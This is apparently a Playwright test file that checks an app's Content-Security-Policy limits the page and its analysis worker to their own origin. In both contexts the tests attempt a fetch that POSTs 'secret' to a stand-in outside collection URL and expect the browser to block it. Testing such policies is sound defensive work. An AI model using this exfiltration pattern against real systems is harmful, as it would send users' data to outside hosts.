// The Content-Security-Policy is what makes "nothing leaves the machine" hold even against a bug
// or a compromised dependency: the page and its worker may connect to our own origin only. These
// tests try to reach another host from both and expect the browser to refuse before any request is
// made (the fixture fails the test if a request to another host is made at all).
import { test, expect } from './fixtures';
import { openApp } from './helpers';

const OUTSIDE = 'http://127.0.0.2:9/collect';

test('the page is served with a policy that allows connections to its own origin only', async ({ page }) => {
  const response = await page.goto('/');
  const header = (await response!.allHeaders())['content-security-policy'] ?? '';
  expect(header).toContain("connect-src 'self'");
  expect(header).toContain("default-src 'self'");
  expect(header).not.toMatch(/https?:\/\//);
  // The built page carries the same policy for static hosts that send no header.
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(meta).toContain("connect-src 'self'");
});

test('the page and the analysis worker cannot reach another host', async ({ page }) => {
  await openApp(page);
  const fromPage = await page.evaluate(async (url) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    let error = '';
    try {
      await fetch(url, { method: 'POST', body: 'secret' });
    } catch (e) {
      error = String(e);
    }
    await new Promise((r) => setTimeout(r, 100));
    return { error, violations };
  }, OUTSIDE);
  expect(fromPage.error).toMatch(/Failed to fetch|NetworkError/i);
  expect(fromPage.violations).toContain('connect-src');

  const worker = page.workers().find((w) => w.url().includes('analysis.worker'));
  expect(worker, 'the analysis worker is running').toBeTruthy();
  const fromWorker = await worker!.evaluate(async (url) => {
    const violations: string[] = [];
    self.addEventListener('securitypolicyviolation', (e) => violations.push((e as SecurityPolicyViolationEvent).effectiveDirective));
    let error = '';
    try {
      await fetch(url, { method: 'POST', body: 'secret' });
    } catch (e) {
      error = String(e);
    }
    await new Promise((r) => setTimeout(r, 100));
    return { error, violations };
  }, OUTSIDE);
  expect(fromWorker.error).toMatch(/Failed to fetch|NetworkError/i);
  expect(fromWorker.violations).toContain('connect-src');
});
